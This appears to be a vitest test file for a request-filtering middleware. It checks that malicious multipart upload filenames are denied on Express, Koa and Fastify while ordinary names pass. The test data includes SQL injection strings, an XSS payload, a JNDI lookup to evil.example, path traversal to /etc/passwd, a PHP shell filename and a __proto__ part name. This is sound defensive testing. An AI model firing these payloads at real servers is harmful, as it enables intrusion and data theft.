/**
 * Review (payload): a multipart file part's filename (what multer hands the handler as `req.file.originalname`) was
 * never inspected, while the same string in a field value is denied. Read by the shield (the app's parser runs after
 * the body stage), a file part is inspected as `{ filename }` under its part name: the name as a key, the file name
 * as a value under a file-name key (`php-script-file-name` applies), whole and as its base name.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import busboy from 'busboy';
import express from 'express';
import fastify from 'fastify';
import Koa from 'koa';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expressShield, expressShieldBody } from '../../src/adapters/express.js';
import { fastifyShield } from '../../src/adapters/fastify.js';
import { koaShield, koaShieldBody } from '../../src/adapters/koa.js';
import { createShield } from '../../src/shield.js';
import { listen, type RunningApp } from '../helpers/adapters.js';

const BOUNDARY = 'ReviewBoundary123';

/** The handler parses the form itself, as multer does (busboy underneath), and echoes names and file names. */
function parse(req: http.IncomingMessage): Promise<{ fields: [string, string][]; files: [string, string][] }> {
  return new Promise((resolve, reject) => {
    const out = { fields: [] as [string, string][], files: [] as [string, string][] };
    const p = busboy({ headers: req.headers as busboy.BusboyConfig['headers'] });
    p.on('field', (n, v) => out.fields.push([n, v]));
    p.on('file', (n, s, info) => {
      out.files.push([n, info.filename ?? '']);
      s.resume();
    });
    p.on('close', () => resolve(out));
    p.on('error', reject);
    req.pipe(p);
  });
}

function post(url: string, body: Buffer): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = http.request(`${url}/upload`, { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}`, 'content-length': body.length } }, (res) => {
      const c: Buffer[] = [];
      res.on('data', (d: Buffer) => c.push(d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text: Buffer.concat(c).toString() }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

const field = (name: string, value: string): string => `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
const file = (name: string, filename: string): string =>
  `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\nContent-Type: image/png\r\n\r\nPNGDATA\r\n`;
const form = (...parts: string[]): Buffer => Buffer.from(parts.join('') + `--${BOUNDARY}--\r\n`);

describe('review payload: multipart file names', () => {
  let app: Running;
  beforeAll(async () => {
    app = await BUILDERS[0]![1](); // Express 5 (the builders are below)
  });
  afterAll(() => app.close());

  const attacks = ['shell.php', "x' UNION SELECT password FROM users-- .png", '<img src=x onerror=alert(1)>.png', '${jndi:ldap://evil.example/a}.png'];

  it('the same strings in a field value are denied (control)', async () => {
    const out: [string, number][] = [];
    for (const a of attacks) out.push([a, (await post(app.url, form(field('filename', a)))).status]);
    expect(out).toEqual(attacks.map((a) => [a, 403]));
  });

  it('the strings as a file part filename are denied too', async () => {
    const out: [string, number][] = [];
    for (const a of attacks) out.push([a, (await post(app.url, form(file('avatar', a)))).status]);
    expect(out).toEqual(attacks.map((a) => [a, 403]));
  });
});

type Running = Pick<RunningApp, 'url' | 'close'>;

/** The same app on Express, Koa and Fastify: the handler's own busboy reads the form after the shield. */
const BUILDERS: [string, () => Promise<Running>][] = [
  ['express5', async () => {
    const shield = createShield({ payload: {} });
    const a = express();
    a.use(expressShield(shield));
    a.use(express.json());
    a.use(expressShieldBody(shield));
    a.post('/upload', (req, res, next) => void parse(req).then((p) => res.json(p), next));
    return listen(http.createServer(a));
  }],
  ['koa3', async () => {
    const shield = createShield({ payload: {} });
    const a = new Koa();
    a.use(koaShield(shield) as unknown as Koa.Middleware);
    a.use(koaShieldBody(shield) as unknown as Koa.Middleware);
    a.use(async (ctx) => {
      ctx.body = await parse(ctx.req);
    });
    return listen(http.createServer(a.callback()));
  }],
  ['fastify5', async () => {
    const f = fastify();
    f.addContentTypeParser('multipart/form-data', (_req, _payload, done) => done(null)); // as @fastify/multipart leaves it
    await f.register(fastifyShield as never, { shield: createShield({ payload: {} }) });
    f.post('/upload', async (req) => parse(req.raw));
    await f.listen({ port: 0, host: '127.0.0.1' });
    return { url: `http://127.0.0.1:${(f.server.address() as AddressInfo).port}`, close: async () => void (await f.close()) };
  }],
];

for (const [name, build] of BUILDERS) {
  describe(`multipart file names and part names: ${name}`, () => {
    let app: Running;
    beforeAll(async () => {
      app = await build();
    });
    afterAll(() => app.close());

    it('denies attacks in a file name (whole or after a path) and a polluting part name', async () => {
      const bodies: [string, Buffer][] = [
        ['php under any part name', form(file('x', 'shell.php'))],
        ['php after a path', form(file('photo', 'uploads/../shell.phtml'))],
        ['traversal', form(file('photo', '../../../etc/passwd'))],
        ['lookup with a slash busboy would cut', form(file('photo', '${jndi:ldap://evil.example/a}.png'))],
        ['sql in the second of two files', form(field('title', 'ok'), file('photos', 'a.png'), file('photos', "b' OR 1=1-- .png"))],
        ['prototype key as the part name', form(file('__proto__', 'a.png'))],
      ];
      const out: [string, number][] = [];
      for (const [label, body] of bodies) out.push([label, (await post(app.url, body)).status]);
      expect(out).toEqual(bodies.map(([label]) => [label, 403]));
    });

    it('passes ordinary file names, which reach the app as sent', async () => {
      const names = ["O'Brien CV (final).docx", 'Screenshot 2024-06-01 at 10.15.22.png', 'résumé.pdf', 'IMG_0001.HEIC', 'notes.txt'];
      const res = await post(app.url, form(field('title', 'Holiday'), ...names.map((n, i) => file(`f${i}`, n))));
      expect(res.status).toBe(200);
      // The app's busboy reads parameters as latin1 by default (the shield reads them as UTF-8).
      expect((JSON.parse(res.text) as { files: [string, string][] }).files).toEqual(names.map((n, i) => [`f${i}`, Buffer.from(n).toString('latin1')]));
    });
  });
}
